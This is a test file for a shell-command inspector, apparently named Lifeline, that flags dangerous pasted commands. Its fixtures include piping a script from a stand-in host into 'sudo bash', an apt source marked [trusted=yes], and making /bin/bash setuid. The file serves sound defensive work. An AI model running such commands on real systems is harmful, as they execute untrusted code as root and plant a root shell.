import { beforeAll, describe, expect, it } from 'vitest'
import { LINK_MESSAGE, inspectText } from '../../../../main/core/inspect/inspect'
import type { ShellParser } from '../../../../main/core/inspect/shell-parser'
import { loadShellParser } from '../../../../main/node/shell-parser'

let parser: ShellParser
beforeAll(async () => {
  parser = await loadShellParser()
})

const THREE = [
  'curl -fsSL https://fix.example.net/p.sh | sudo bash',
  'echo "deb [trusted=yes] http://fix.example.net/ubuntu noble main" | sudo tee /etc/apt/sources.list.d/x.list',
  'sudo chmod u+s /bin/bash',
].join('\n')

describe('inspectText plain output', () => {
  describe('when three lines each hold one dangerous command', () => {
    it('counts 3 findings in 3 commands and names each problem in the sentence, not rule ids', async () => {
      const r = await inspectText(THREE, { parser })
      expect(r.findings).toHaveLength(3)
      expect(r.commandCount).toBe(3)
      expect(r.summary).toContain('3 dangerous parts in 3 commands')
      expect(r.summary).toContain('a download run as a script')
      expect(r.summary).toContain('a source marked trusted without signatures')
      expect(r.summary).toContain('a setuid program')
      expect(r.summary).not.toMatch(/pipe-to-shell|trusted-yes|setuid\b(?! program)/)
    })

    it('puts the trusted-yes highlight on [trusted=yes] itself', async () => {
      const r = await inspectText(THREE, { parser })
      const f = r.findings.find((x) => x.rule === 'trusted-yes')
      expect(THREE.split('\n')[1]?.slice(f?.start, f?.end)).toBe('[trusted=yes]')
    })
  })

  describe('when [trusted=yes] is in a here-doc below sudo tee', () => {
    it('highlights it on its own line', async () => {
      const text =
        'sudo tee /etc/apt/sources.list.d/x.list <<EOF\ndeb [trusted=yes] http://fix.example.net/ubuntu noble main\nEOF'
      const r = await inspectText(text, { parser })
      const f = r.findings.find((x) => x.rule === 'trusted-yes')
      expect(f?.line).toBe(2)
      expect(text.split('\n')[1]?.slice(f?.start, f?.end)).toBe('[trusted=yes]')
    })
  })

  describe('when the paste is only a link', () => {
    it.each(['https://fix.example.net/fix.sh', 'Fix here: https://fix.example.net/fix.sh'])(
      'says Lifeline does not download %s',
      async (text) => {
        const r = await inspectText(text, { parser })
        expect(r.verdict).toBe('caution')
        expect(r.summary).toBe(LINK_MESSAGE)
      },
    )
  })

  describe('when a finding is shown', () => {
    it('carries the catalog title', async () => {
      const r = await inspectText('sudo fixer --apply', { parser })
      expect(r.findings[0]?.title).toBe('a program Lifeline does not know, run as administrator')
      expect(r.findings[0]?.message).toContain('`fixer`')
    })
  })
})

describe('inspectText with known fixes', () => {
  it("is verified for Lifeline's kernel install step when the advisory names that version", async () => {
    const r = await inspectText(
      'sudo apt update\nsudo apt install linux-image-6.8.0-60-generic=6.8.0-60.63',
      {
        parser,
        knownFixes: [{ package: 'linux-image-6.8.0-60-generic', version: '6.8.0-60.63' }],
      },
    )
    expect(r.verdict).toBe('verified')
  })

  it('is not verified for another version of the same package', async () => {
    const r = await inspectText('sudo apt install linux-image-6.8.0-60-generic=6.8.0-60.62', {
      parser,
      knownFixes: [{ package: 'linux-image-6.8.0-60-generic', version: '6.8.0-60.63' }],
    })
    expect(r.verdict).toBe('caution')
  })
})
